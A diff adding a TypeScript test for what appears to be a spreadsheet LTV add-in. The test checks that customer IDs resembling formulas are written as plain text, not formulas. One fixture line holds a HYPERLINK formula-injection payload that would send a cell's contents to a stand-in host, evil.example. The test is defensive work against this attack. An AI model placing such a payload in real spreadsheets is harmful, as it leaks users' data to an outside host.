@@ -363,3 +363,46 @@ describe("writePlan: unfinished sheets and names that are not ours", () => {
     expect(snap.order).toEqual(["Sales", "Prices", "LTV calculation"]);
   });
 });
+
+describe("writePlan writes data as data", () => {
+  it("customer ids that look like formulas are written as text in the summary, never as formulas", async () => {
+    const ids = [
+      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+      "+81-90-1234-5678",
+      "-A1*10",
+      "@SUM(A1:A9)",
+      "00123",
+    ];
+    const rows: (string | number)[][] = [["顧客ID", "購入日", "金額"]];
+    ids.forEach((id, i) => {
+      rows.push([id, 45300 + i, 1000]);
+      rows.push([id, 45340 + i, 1200]);
+    });
+    const ledger = readLedger(
+      {
+        customers: rows.map((r) => r[0]),
+        dates: rows.map((r) => r[1]),
+        amounts: rows.map((r) => r[2]),
+      },
+      { mode: "lenient" }
+    );
+    const plan = buildCalculationPlan(
+      { ...DEFAULT_INPUTS, periodUnit: "month" },
+      "en",
+      analyseLedgerForPlan(ledger, "month", { source: "Sales!A1:C11" })
+    );
+    const fake = createFakeOffice({ sheets: { Sales: rows } });
+    await write(fake, plan);
+    const cells = fake.snapshot().sheets["LTV calculation"].cells as Record<
+      string,
+      { formula?: string; value?: unknown }
+    >;
+    const held = Object.values(cells).map((c) => c.value);
+    for (const id of ids) expect(held).toContain(id);
+    const formulas = Object.values(cells)
+      .map((c) => c.formula)
+      .filter((f): f is string => f !== undefined);
+    for (const id of ids)
+      expect(formulas.some((f) => f.includes(id.replace(/^[=@]/, "")))).toBe(false);
+  });
+});
